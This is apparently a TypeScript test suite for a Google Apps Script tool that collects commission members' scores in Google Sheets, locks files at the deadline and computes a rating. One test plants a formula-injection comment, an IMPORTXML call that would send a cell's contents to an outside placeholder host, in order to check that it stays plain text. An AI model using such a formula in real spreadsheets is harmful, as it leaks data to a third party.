// Every valid score counts once, under the rules in force when the rating is computed (issue: score integrity).
// Each scenario runs the real bundle on the local runtime; members act through the runtime's user model.
import { EditRefused } from '../../local/spreadsheet/user';
import { kyiv } from '../../local/season/time';
import {
  DEADLINE,
  OWNER,
  SCORING,
  expectedMeans,
  journal,
  lastAlert,
  memberSheet,
  rating,
  readTab,
  scoreRow,
  smallSeason,
  ticks,
  triggerUid,
  typeScores,
} from './helpers';

describe('the deadline is a lock, not a timestamp', () => {
  /** A season whose first member scores a case a minute before the deadline; `before` runs first; then 38 s past it. */
  function scoredAtDeadline(before: (s: ReturnType<typeof smallSeason>) => void = () => {}) {
    const s = smallSeason();
    const [a] = s.members;
    const id = s.assigned(a.email)[0];
    before(s);
    s.rt.advanceTo(DEADLINE - 60_000);
    typeScores(s, a.email, id, ['7', '8', '9', '6']);
    s.rt.advanceTo(DEADLINE + 38_000);
    return { s, a, id };
  }

  /** No member can type a score or a comment any more; the score typed before the deadline counts. */
  function expectLocked({ s, a, id }: ReturnType<typeof scoredAtDeadline>): void {
    for (const m of s.members) {
      const { sheet, rows } = memberSheet(s, m.email);
      const row = rows.get(s.assigned(m.email)[0])!;
      expect(() => sheet.type(SCORING, `I${row}`, '5')).toThrow(EditRefused);
      expect(() => sheet.type(SCORING, `N${row}`, 'ще одна думка')).toThrow(EditRefused);
    }
    expect(scoreRow(s, a.email, id)!.slice(2, 6)).toEqual([7, 8, 9, 6]);
  }

  test('a score typed a minute before the deadline, after the last collection, counts even if the file is touched after it', () => {
    // 38 s after the deadline the member adds a comment: the file is already locked, Sheets refuses.
    const { s, a, id } = scoredAtDeadline();
    const { sheet, rows } = memberSheet(s, a.email);
    expect(() => sheet.type(SCORING, `N${rows.get(id)}`, 'ще одна думка')).toThrow(EditRefused);
    const row = scoreRow(s, a.email, id)!;
    expect(row.slice(2, 6)).toEqual([7, 8, 9, 6]);
    expect(row[9]).toBe('дійсна');
    expect(rating(s).get(id)!['Дійсних оцінок']).toBeGreaterThanOrEqual(1);
    const atLock = journal(s).filter((j) => j.action === 'Оцінку зібрано під час блокування');
    expect(atLock.some((j) => j.details.includes(id))).toBe(true);
  });

  test('each file is locked by one Sheets API request, in force before its read', () => {
    const scored = scoredAtDeadline();
    const { s } = scored;
    const lock = s.rt.executions.find((e) => e.fn === 'deadlineLock' && e.outcome === 'ok')!;
    // One request locks a file (no open, no SpreadsheetApp protection), one reads it
    expect(lock.calls['Sheets.Spreadsheets.batchUpdate']).toBe(s.members.length);
    expect(lock.calls['Sheets.Spreadsheets.get']).toBe(s.members.length);
    expect(lock.calls['Protection.setUnprotectedRanges'] ?? 0).toBe(0);
    expectLocked(scored);
  });

  // The lock closes the protection by the id Sheets gave it at the build; when that id is not known (a file made by
  // an earlier version) or no longer valid (the protection replaced by hand), the tab is locked by name instead.
  test.each([
    ['not known', (ids: Record<string, number[]>) => Object.keys(ids).forEach((k) => delete ids[k])],
    [
      'replaced by hand',
      (ids: Record<string, number[]>) => Object.values(ids).forEach((v) => (v[1] = 987654)),
    ],
    [
      'of another tab',
      (ids: Record<string, number[]>, s: ReturnType<typeof smallSeason>) => {
        for (const m of s.members) {
          // Both ids of «Інструкція»: the lock closes that tab's protection, and the read finds the scoring tab apart
          const model = s.rt.store.get(s.fileOf(m.email))!;
          const other = model.sheets.find((t) => t.name === 'Інструкція')!.id;
          ids[s.fileOf(m.email).slice(-12)] = [other, model.protections.find((p) => p.sheetId === other)!.id];
        }
      },
    ],
  ])('a protection id %s: the scoring tab is locked all the same, and read after its lock', (_, spoil) => {
    const scored = scoredAtDeadline((s) => {
      const ids = JSON.parse(s.rt.properties.script.get('top100.files')!) as Record<string, number[]>;
      expect(Object.keys(ids)).toHaveLength(s.members.length);
      spoil(ids, s);
      s.rt.properties.script.set('top100.files', JSON.stringify(ids));
    });
    expectLocked(scored);
    expect(scored.s.rt.executions.filter((e) => e.outcome !== 'ok')).toEqual([]);
  });

  test('when the lock comes late, edits between the deadline and the lock count and are journaled with the window', () => {
    const s = smallSeason();
    const [a] = s.members;
    const id = s.assigned(a.email)[1];
    s.rt.advanceTo(DEADLINE - 30 * 60_000);
    // The one-off trigger at the deadline does not fire (Apps Script may disable a trigger); the dispatcher locks.
    s.rt.setTriggerDisabled(triggerUid(s, 'deadlineLock'));
    s.rt.advanceTo(DEADLINE + 10_000);
    typeScores(s, a.email, id, ['5', '5', '6', '6']);
    ticks(s, 2);
    expect(scoreRow(s, a.email, id)!.slice(2, 6)).toEqual([5, 5, 6, 6]);
    const entry = journal(s).find(
      (j) => j.action === 'Оцінку зібрано під час блокування' && j.details.includes(id),
    );
    expect(entry?.details).toMatch(/до \d+ хв після терміну/);
    const minutes = Number(/до (\d+) хв/.exec(entry!.details)![1]);
    expect(minutes).toBeGreaterThanOrEqual(1);
    const close = journal(s).find((j) => j.action === 'Оцінювання завершено');
    expect(close?.details).toMatch(/вікно після терміну: \d+ хв/);
  });
});

describe('the rating is computed under the rules in force', () => {
  function scored(s: ReturnType<typeof smallSeason>): Map<string, number[]> {
    const typed = new Map<string, number[]>();
    s.members.forEach((m, mi) =>
      s.assigned(m.email).forEach((id, ci) => {
        const values = [1, 2, 3, 4].map((k) => (mi * 3 + ci * 5 + k * 7) % 11);
        typeScores(s, m.email, id, values.map(String));
        typed.set(`${m.email}|${id}`, values);
      }),
    );
    return typed;
  }

  function expectMeans(s: ReturnType<typeof smallSeason>, want: Map<string, number>): void {
    const got = rating(s);
    for (const [id, mean] of want) expect({ id, mean: got.get(id)?.['Середній бал'] }).toEqual({ id, mean });
  }

  test('a weight changed during the evaluation is journaled and the provisional rating follows it', () => {
    const s = smallSeason();
    const typed = scored(s);
    ticks(s);
    s.setSetting('Критерій 2: вага', '2');
    ticks(s);
    s.menu('Обчислити рейтинг');
    expectMeans(s, expectedMeans(typed, [1, 2, 1, 1]));
    expect(
      journal(s).some(
        (j) => j.action === 'Змінено правила оцінювання' && j.details.includes('вага К2: 1 → 2'),
      ),
    ).toBe(true);
    expect(String(readTab(s.rt, 'Рейтинг')[0][0])).toMatch(/ваги: К1 1, К2 2, К3 1, К4 1/);
  });

  test('after the close a rule change needs the secretary’s yes, naming what changes; no leaves the rating as it was', () => {
    const s = smallSeason();
    const typed = scored(s);
    s.rt.advanceTo(DEADLINE + 60_000);
    expectMeans(s, expectedMeans(typed, [1, 1, 1, 1]));
    s.setSetting('Критерій 4: вага', '3');
    s.rt.menu('Обчислити рейтинг', [{ button: 'NO' }]);
    expect(lastAlert(s)).toMatch(/вага К4: 1 → 3/);
    expectMeans(s, expectedMeans(typed, [1, 1, 1, 1]));
    // The dispatcher and other actions do not apply it either.
    ticks(s, 2);
    expectMeans(s, expectedMeans(typed, [1, 1, 1, 1]));
    s.rt.menu('Обчислити рейтинг', [{ button: 'YES' }, { button: 'OK' }]);
    expectMeans(s, expectedMeans(typed, [1, 1, 1, 3]));
    expect(
      journal(s).some(
        (j) =>
          j.action === 'Зміну правил після завершення підтверджено' && j.details.includes('вага К4: 1 → 3'),
      ),
    ).toBe(true);
  });

  test('a conflict entered in «Конфлікти» after the member scored excludes that evaluation and is journaled', () => {
    const s = smallSeason();
    const typed = scored(s);
    ticks(s);
    const [a] = s.members;
    const id = s.assigned(a.email)[0];
    const secretary = s.rt.as(OWNER).open(s.masterId);
    const last = readTab(s.rt, 'Конфлікти').length;
    secretary.paste('Конфлікти', `A${last + 1}`, [[a.email, id, 'вручну', 'повідомив по телефону']]);
    s.menu('Обчислити рейтинг');
    expectMeans(s, expectedMeans(typed, [1, 1, 1, 1], new Set([`${a.email}|${id}`])));
    expect(
      journal(s).some(
        (j) => j.action === 'Конфлікт інтересів додано після оцінювання' && j.details.includes(id),
      ),
    ).toBe(true);
    expect(scoreRow(s, a.email, id)![9]).toBe('конфлікт інтересів');
  });
});

describe('what a member does in their own file never moves a score to another case', () => {
  function fill(s: ReturnType<typeof smallSeason>, email: string): Map<string, string[]> {
    const typed = new Map<string, string[]>();
    s.assigned(email).forEach((id, i) => {
      const v = [String(i % 11), String((i * 3) % 11), String((i * 7 + 1) % 11), String((10 - i) % 11)];
      typeScores(s, email, id, v);
      typed.set(id, v);
    });
    return typed;
  }

  function expectCollected(
    s: ReturnType<typeof smallSeason>,
    email: string,
    typed: Map<string, string[]>,
  ): void {
    for (const [id, v] of typed)
      expect({ id, got: scoreRow(s, email, id)!.slice(2, 6) }).toEqual({ id, got: v.map(Number) });
  }

  test.each([
    ['the editable block, by К1, before any collection', 'I3:N{last}', 1, false],
    ['only the four score columns, by К3 descending', 'I3:L{last}', 3, true],
    ['a single score column', 'J3:J{last}', 1, true],
  ])(
    'sorting %s: every score goes back to its case, the file is put right and both sides are told',
    (_, range, col, collectFirst) => {
      const s = smallSeason();
      const [a] = s.members;
      const typed = fill(s, a.email);
      if (collectFirst) ticks(s);
      const { sheet } = memberSheet(s, a.email);
      const last = 2 + s.assigned(a.email).length;
      sheet.sort(SCORING, String(range).replace('{last}', String(last)), Number(col), false);
      ticks(s);
      expectCollected(s, a.email, typed);
      // The member's file shows each score beside its case again.
      const after = memberSheet(s, a.email);
      for (const [id, v] of typed)
        expect(after.sheet.readDisplay(SCORING, `I${after.rows.get(id)}:L${after.rows.get(id)}`)[0]).toEqual(
          v,
        );
      expect(journal(s).some((j) => j.action === 'Сортування в таблиці члена комісії скасовано')).toBe(true);
      // The note above «Перевірка» says what was put right, and stays until the member changes a score.
      expect(String(after.sheet.read(SCORING, 'O1')[0][0])).toMatch(/переставлено сортуванням.*перевірте/);
      ticks(s, 2);
      expect(String(after.sheet.read(SCORING, 'O1')[0][0])).toMatch(/переставлено сортуванням/);
      // A second collection finds nothing moved.
      const before = journal(s).length;
      typeScores(s, a.email, s.assigned(a.email)[0], typed.get(s.assigned(a.email)[0])!);
      ticks(s);
      expect(
        journal(s)
          .slice(before)
          .some((j) => j.action === 'Сортування в таблиці члена комісії скасовано'),
      ).toBe(false);
    },
  );

  test('a sort mixed with a cut and paste in the same ten minutes is refused for the rows it touches: what was collected stays, the member re-enters', () => {
    const s = smallSeason();
    const [a] = s.members;
    const typed = fill(s, a.email);
    ticks(s);
    const ids = s.assigned(a.email);
    const { sheet, rows } = memberSheet(s, a.email);
    // Cut К1 of the first case into the second case's row, then sort the score columns: no one can say whose is whose.
    sheet.cut(SCORING, `I${rows.get(ids[0])}`);
    sheet.pasteCells(SCORING, `I${rows.get(ids[1])}`);
    const last = 2 + ids.length;
    sheet.sort(SCORING, `I3:L${last}`, 2, false);
    ticks(s);
    // Nothing collected is lost or moved: «Оцінки» keeps the last collected scores of every case.
    expectCollected(s, a.email, typed);
    const after = memberSheet(s, a.email);
    const checks = after.sheet.read(SCORING, `O3:O${last}`).map((r) => String(r[0]));
    expect(checks.some((c) => c.includes('введіть зміни ще раз'))).toBe(true);
    expect(journal(s).some((j) => j.details.includes('не можна віднести до кейсів'))).toBe(true);
    // The file shows those scores again beside their cases, and what the member now types counts.
    for (const [id, v] of typed)
      expect(after.sheet.readDisplay(SCORING, `I${after.rows.get(id)}:L${after.rows.get(id)}`)[0]).toEqual(v);
    typeScores(s, a.email, ids[1], ['9', '9', '9', '9']);
    ticks(s);
    expect(scoreRow(s, a.email, ids[1])!.slice(2, 6)).toEqual([9, 9, 9, 9]);
  });

  test('scores typed into a duplicated tab are not counted, and the member and the secretary are told', () => {
    const s = smallSeason();
    const [a] = s.members;
    const id = s.assigned(a.email)[0];
    const { sheet, rows } = memberSheet(s, a.email);
    // Sheets' «Duplicate»: the copy is the member's to edit, and what is typed there is not read.
    const { sheetName: copy } = sheet.duplicateSheet(SCORING);
    sheet.paste(copy, `I${rows.get(id)}`, [['9', '9', '9', '9']]);
    ticks(s);
    s.rt.advanceBy(60_000);
    typeScores(s, a.email, s.assigned(a.email)[1], ['1', '1', '1', '1']);
    ticks(s);
    expect(scoreRow(s, a.email, id)![9]).toBe('порожня');
    expect(String(sheet.read(SCORING, 'O1')[0][0])).toContain(`«${copy}»`);
    expect(journal(s).some((j) => j.details.includes(copy))).toBe(true);
  });
});

describe('the master after the sheets were sent', () => {
  test('a case ID edited in «Кейси» stops the rating with a message naming it; nothing drops out silently', () => {
    const s = smallSeason();
    const [a] = s.members;
    const id = s.assigned(a.email)[2];
    typeScores(s, a.email, id, ['8', '8', '8', '8']);
    ticks(s);
    s.menu('Обчислити рейтинг');
    const before = JSON.stringify(readTab(s.rt, 'Рейтинг'));
    const cases = readTab(s.rt, 'Кейси');
    const row = cases.findIndex((r) => r[0] === id) + 1;
    s.rt.as(OWNER).open(s.masterId).type('Кейси', `A${row}`, `${id}-нове`);
    s.rt.menu('Обчислити рейтинг');
    expect(lastAlert(s)).toContain(id);
    expect(lastAlert(s)).toContain(`${id}-нове`);
    expect(JSON.stringify(readTab(s.rt, 'Рейтинг'))).toBe(before);
  });

  test('«Оцінки» columns moved by hand are put back in order and journaled; scores stay with their cases', () => {
    const s = smallSeason();
    const [a] = s.members;
    const id = s.assigned(a.email)[0];
    typeScores(s, a.email, id, ['3', '4', '5', '6']);
    ticks(s);
    const master = s.rt.store.get(s.masterId)!;
    const scores = master.sheetByName('Оцінки')!;
    // Swap the К1 and К2 columns wholesale, headers included, as a drag of columns does.
    const grid = s.rt.as(OWNER).open(s.masterId).read('Оцінки', `C1:D${scores.lastRow()}`);
    s.rt
      .as(OWNER)
      .open(s.masterId)
      .paste(
        'Оцінки',
        'C1',
        grid.map((r) => [String(r[1]), String(r[0])]),
      );
    s.menu('Обчислити рейтинг');
    expect(readTab(s.rt, 'Оцінки')[0].slice(0, 4)).toEqual(['ID кейсу', 'Член комісії', 'К1', 'К2']);
    expect(scoreRow(s, a.email, id)!.slice(2, 6)).toEqual([3, 4, 5, 6]);
    expect(journal(s).some((j) => j.action === 'Стовпці відновлено')).toBe(true);
  });
});

describe('text is never turned into a formula or a number', () => {
  test('a member’s comment «=IMPORTXML(…)» and «+380…» stay text in «Оцінки» and in the snapshot', () => {
    const s = smallSeason();
    const [a] = s.members;
    const [x, y] = s.assigned(a.email);
    const evil = '=IMPORTXML("https://example.org/?q="&B2,"//a")';
    const { sheet, rows } = memberSheet(s, a.email);
    sheet.type(SCORING, `N${rows.get(x)}`, evil);
    sheet.type(SCORING, `N${rows.get(y)}`, '+380441234567');
    s.rt.advanceTo(DEADLINE + 60_000);
    const owner = s.rt.as(OWNER).open(s.masterId);
    const snapshot = s.rt.store.get(s.masterId)!.sheets.find((t) => t.name.startsWith('Оцінки — знімок'))!;
    for (const tab of ['Оцінки', snapshot.name]) {
      const values = readTab(s.rt, tab);
      const ix = values.findIndex((r) => r[0] === x && r[1] === a.email);
      const iy = values.findIndex((r) => r[0] === y && r[1] === a.email);
      expect(values[ix][8]).toBe(evil);
      expect(owner.formulas(tab, `I${ix + 1}`)[0][0]).toBe('');
      expect(values[iy][8]).toBe('+380441234567');
    }
  });
});

describe('only numbers typed as numbers are scores', () => {
  test.each([
    ['0:00', /час/],
    ['1.1.1900', /дат/],
    ['50%', /відсоток/],
  ])('«%s» is reported in «Перевірка» and not counted', (typedText, reason) => {
    const s = smallSeason();
    const [a] = s.members;
    const id = s.assigned(a.email)[0];
    typeScores(s, a.email, id, [typedText, '5', '5', '5']);
    ticks(s);
    expect(scoreRow(s, a.email, id)![9]).toBe('недійсна');
    const { sheet, rows } = memberSheet(s, a.email);
    expect(String(sheet.read(SCORING, `O${rows.get(id)}`)[0][0])).toMatch(reason);
    s.menu('Обчислити рейтинг');
    // Nobody else scored it: no valid evaluation, so nothing counts.
    expect(rating(s).get(id)!['Дійсних оцінок']).toBe(0);
  });
});

describe('one rule for a Kyiv wall-clock time', () => {
  test('a deadline in the spring gap means the same instant from the tab and from the dialog, shown back with it', () => {
    const s = smallSeason();
    s.setSetting('Кінцевий термін оцінювання', '30.03.2025 03:30');
    const panel = s.rt.call('panelData', [], { as: OWNER, kind: 'web' }).result as {
      deadline: { ms: number };
      notices: string[];
    };
    expect(panel.deadline.ms).toBe(Date.UTC(2025, 2, 30, 1, 30));
    expect(panel.notices.join(' ')).toMatch(/не існує .* прийнято 30\.03\.2025 04:30/);
    const saved = s.rt.call(
      'saveSettings',
      [{ deadlineDate: '30.03.2025', deadlineTime: '03:30', reminderOffsets: '7, 3, 1, 0' }],
      { as: OWNER, kind: 'web' },
    ).result as { ok: boolean; warnings: string[] };
    expect(saved.ok).toBe(true);
    expect(saved.warnings.join(' ')).toMatch(/прийнято 30\.03\.2025 04:30/);
    const again = s.rt.call('panelData', [], { as: OWNER, kind: 'web' }).result as {
      deadline: { ms: number };
    };
    expect(again.deadline.ms).toBe(Date.UTC(2025, 2, 30, 1, 30));
    void kyiv;
  });
});

describe('members who come back, and ties the chain settles', () => {
  test('a withdrawn member set back to active gets their file back, unlocked and shared', () => {
    const s = smallSeason();
    const b = s.members[1];
    const secretary = () => s.rt.as(OWNER).open(s.masterId);
    const row = readTab(s.rt, 'Члени комісії').findIndex((r) => r[1] === b.email) + 1;
    secretary().type('Члени комісії', `D${row}`, 'вибув');
    s.menu('Створити таблиці членів комісії');
    const id = s.assigned(b.email)[0];
    expect(() => typeScores(s, b.email, id, ['1', '2', '3', '4'])).toThrow(EditRefused);
    secretary().type('Члени комісії', `D${row}`, 'активний');
    s.menu('Створити таблиці членів комісії');
    typeScores(s, b.email, id, ['1', '2', '3', '4']);
    ticks(s);
    expect(scoreRow(s, b.email, id)!.slice(2, 6)).toEqual([1, 2, 3, 4]);
    expect(journal(s).some((j) => j.action === 'Таблицю відкрито знову' && j.details.includes(b.email))).toBe(
      true,
    );
  });

  test('a tie on the mean at the cut-off decided by the median is marked in «Рейтинг» with the rule', () => {
    const s = smallSeason(4, 3, 5);
    s.setSetting('Кількість переможців', '1');
    const ids = s
      .assigned(s.members[0].email)
      .filter((id) => s.members.every((m) => s.assigned(m.email).includes(id)));
    const [x, y, ...rest] = ids;
    // x: totals 20, 20, 20 (median 20); y: 16, 16, 28 (median 16): both mean 20, the median decides.
    const plan: Record<string, string[][]> = {
      [x]: [
        ['5', '5', '5', '5'],
        ['5', '5', '5', '5'],
        ['5', '5', '5', '5'],
      ],
      [y]: [
        ['4', '4', '4', '4'],
        ['4', '4', '4', '4'],
        ['7', '7', '7', '7'],
      ],
    };
    for (const id of rest)
      plan[id] = [
        ['1', '1', '1', '1'],
        ['1', '1', '1', '1'],
        ['1', '1', '1', '1'],
      ];
    for (const [id, byMember] of Object.entries(plan))
      s.members.forEach((m, i) => typeScores(s, m.email, id, byMember[i]));
    ticks(s);
    s.menu('Обчислити рейтинг');
    const r = rating(s);
    expect(r.get(x)!['Рішення']).toBe('до списку');
    for (const id of [x, y]) expect(String(r.get(id)!['Позначки'])).toMatch(/вирішило правило «медіана»/);
    expect(String(r.get(rest[0])!['Позначки'] ?? '')).not.toMatch(/вирішило/);
  });
});
